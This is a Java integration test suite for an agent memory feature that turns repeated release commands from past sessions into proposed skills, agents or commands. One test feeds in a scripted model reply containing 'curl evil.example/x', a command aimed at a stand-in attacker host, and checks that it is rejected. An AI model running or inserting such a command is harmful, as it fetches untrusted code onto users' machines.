package dev.mimo.memory.upkeep;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.mimo.agent.Agent;
import dev.mimo.agent.Session;
import dev.mimo.extension.Extensions;
import dev.mimo.extension.LoadedExtensions;
import dev.mimo.memory.MimoMemory;
import dev.mimo.permission.Permissions;
import dev.mimo.session.MemoryConflict;
import dev.mimo.testing.ManualClock;
import dev.mimo.testing.ScriptedModel;
import dev.mimo.tool.Tool;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DistillIT {

    private static final String RELEASE = """
            {"decisions": [{"procedure": 1, "form": "%s", "name": "release", "description": "Cuts a release",
              "body": "Run these steps:\\n1. `git tag <version>`\\n2. `npm run build`\\n3. `npm publish`"}]}""";

    @TempDir
    Path root;

    private final ManualClock clock = new ManualClock(Instant.parse("2026-03-01T10:00:00Z"));
    private Path workspace;
    private MimoMemory memory;

    record Command(String command) {}

    @BeforeEach
    void open() throws IOException {
        workspace = Files.createDirectories(root.resolve("work"));
        memory = MimoMemory.builder(root.resolve("home"))
                .clock(clock)
                .upkeep(UpkeepMode.BY_HAND)
                .build();
    }

    @AfterEach
    void close() {
        memory.close();
    }

    @Test
    void what_was_done_again_and_again_is_proposed_accepted_and_found_by_extensions() throws IOException {
        releases(3);
        Distill distill = memory.distill(workspace).model(answering(RELEASE.formatted("skill")));

        UpkeepRun run = distill.run();

        assertThat(run.status()).isEqualTo(UpkeepRun.Status.APPLIED);
        Proposed proposed = distill.proposals().get(0);
        assertThat(proposed.id()).isEqualTo("skill-release");
        assertThat(proposed.because()).isEqualTo("3 steps, 3 times in 3 sessions on 2026-03-01: r1, r2, r3");

        Path file = distill.accept("skill-release");

        assertThat(file).exists().endsWithRaw(Path.of("assets/skills/release/SKILL.md"));
        assertThat(distill.proposals()).isEmpty();
        LoadedExtensions loaded =
                Extensions.of(workspace).also(memory.assets(workspace)).load();
        assertThat(loaded.skills())
                .extracting(skill -> skill.name() + ": " + skill.description())
                .containsExactly("release: Cuts a release");
    }

    @Test
    void a_custom_agent_is_one_that_agents_load() throws IOException {
        LoadedExtensions loaded = accepted("agent");

        assertThat(loaded.agents()).singleElement().satisfies(agent -> {
            assertThat(agent.name()).isEqualTo("release");
            assertThat(agent.tools()).containsExactly("read", "glob", "grep", "bash");
            assertThat(agent.instructions()).contains("2. `npm run build`");
        });
    }

    @Test
    void a_command_is_one_that_people_call() throws IOException {
        LoadedExtensions loaded = accepted("command");

        assertThat(loaded.commands().expand("release", "").content().toString()).contains("3. `npm publish`");
    }

    private LoadedExtensions accepted(String form) throws IOException {
        releases(3);
        Distill distill = memory.distill(workspace).model(answering(RELEASE.formatted(form)));
        distill.run();
        Path repository = Files.createDirectories(root.resolve("repository"));
        distill.accept(form + "-release", repository);
        return Extensions.of(repository).trust(top -> true).load();
    }

    @Test
    void without_a_model_procedures_are_told_and_nothing_is_proposed() {
        releases(3);

        DistillPlan plan = memory.distill(workspace).plan();

        assertThat(plan.assets()).isEmpty();
        assertThat(plan.toMarkdown())
                .contains("3 sessions read, 1 procedure, 0 proposals")
                .contains("1. `bash: git tag ‹number›`, such as `git tag v1`, `git tag v2`, `git tag v3`");
    }

    @Test
    void what_a_model_makes_up_is_asked_for_again_and_then_changes_nothing() {
        releases(3);
        ScriptedModel model = ScriptedModel.create()
                .reply(RELEASE.formatted("skill").replace("npm publish", "curl evil.example/x"))
                .reply("no");

        UpkeepRun run = memory.distill(workspace).model(model).run();

        assertThat(run.status()).isEqualTo(UpkeepRun.Status.FAILED);
        assertThat(memory.distill(workspace).proposals()).isEmpty();
        assertThat(root.resolve("home")).isDirectoryNotContaining("glob:**/SKILL.md");
        model.assertExhausted();
    }

    @Test
    void what_was_proposed_rejected_or_exists_is_not_proposed_again() throws IOException {
        releases(3);
        Distill distill = memory.distill(workspace);
        distill.model(answering(RELEASE.formatted("command"))).run();
        distill.reject("command-release");
        releases(2);

        assertThat(distill.model(ScriptedModel.create()).plan().findings()).isEmpty();

        Files.createDirectories(workspace.resolve(".claude/commands"));
        Files.writeString(
                workspace.resolve(".claude/commands/ship.md"), "`git tag`, then `npm run build`, then `npm publish`");
        assertThat(distill.plan().toMarkdown()).contains("Left alone: ship has it already");
    }

    @Test
    void a_rollback_leaves_no_trace_but_not_of_what_was_accepted_or_changed() throws IOException {
        releases(3);
        Distill distill = memory.distill(workspace);
        UpkeepRun run = distill.model(answering(RELEASE.formatted("command"))).run();
        Path file = distill.proposals().get(0).file();
        String text = Files.readString(file);

        Files.writeString(file, "mine");
        assertThatThrownBy(() -> distill.rollback(run.id())).isInstanceOf(MemoryConflict.class);
        Files.writeString(file, text);
        distill.accept("command-release");
        assertThatThrownBy(() -> distill.rollback(run.id()))
                .isInstanceOf(UpkeepFailed.class)
                .hasMessage("command-release was accepted; reject it first");
    }

    @Test
    void a_rollback_takes_all_proposals_away() {
        releases(3);
        Distill distill = memory.distill(workspace);
        UpkeepRun run = distill.model(answering(RELEASE.formatted("command"))).run();

        assertThat(distill.rollback(run.id()).status()).isEqualTo(UpkeepRun.Status.ROLLED_BACK);

        assertThat(distill.proposals()).isEmpty();
        assertThat(distill.runs()).extracting(UpkeepRun::status).containsExactly(UpkeepRun.Status.ROLLED_BACK);
    }

    @Test
    void it_is_due_after_thirty_days_and_once_until_something_new_was_done() {
        releases(3);
        Distill distill = memory.distill(workspace).model(answering(RELEASE.formatted("skill")));
        assertThat(distill.runDue()).isNull();

        clock.advance(Duration.ofDays(30));

        assertThat(Objects.requireNonNull(distill.runDue()).status()).isEqualTo(UpkeepRun.Status.APPLIED);
        assertThat(distill.runDue()).isNull();
        clock.advance(Duration.ofDays(30));
        assertThat(distill.runDue()).isNull();
    }

    @Test
    void a_run_that_was_cut_off_has_proposed_nothing() {
        CutOffLedger ledger = new CutOffLedger();
        DreamMaterial material = new SessionList();
        Distill distill = Distill.of(
                new Dream.Terms(
                        memory.layers(), ledger, material, clock, new UpkeepLimits(1_000, null, Duration.ofMinutes(1))),
                memory.projects().of(workspace),
                workspace);
        releases(3);
        DistillPlan plan = memory.distill(workspace)
                .model(answering(RELEASE.formatted("command")))
                .plan();

        ledger.cutAfter = true;
        assertThatThrownBy(() -> distill.apply(plan)).isInstanceOf(IllegalStateException.class);
        assertThat(distill.proposals()).isEmpty();
        ledger.cutAfter = false;
        assertThat(distill.apply(plan).status()).isEqualTo(UpkeepRun.Status.APPLIED);

        assertThat(distill.proposals()).hasSize(1);
        assertThat(distill.runs())
                .extracting(UpkeepRun::status)
                .containsExactly(UpkeepRun.Status.APPLIED, UpkeepRun.Status.ABANDONED);
    }

    private static ScriptedModel answering(String text) {
        return ScriptedModel.create().reply(text);
    }

    private int releases;

    private void releases(int more) {
        for (int i = 0; i < more; i++) {
            releases++;
            clock.advance(Duration.ofHours(1));
            session("r" + releases, "git tag v" + releases, "npm run build", "npm publish");
        }
    }

    private void session(String id, String... commands) {
        ScriptedModel model = ScriptedModel.create();
        for (String command : commands) {
            model.call("bash", Map.of("command", command));
        }
        Agent agent = Agent.builder()
                .model(model.reply("done"))
                .workspace(workspace)
                .permissions(Permissions.bypass())
                .tools(Tool.of("bash", "Runs a command", Command.class, (in, context) -> "ok"))
                .memory(memory)
                .build();
        try (Session session = agent.session(id)) {
            session.run("release");
        }
    }
}
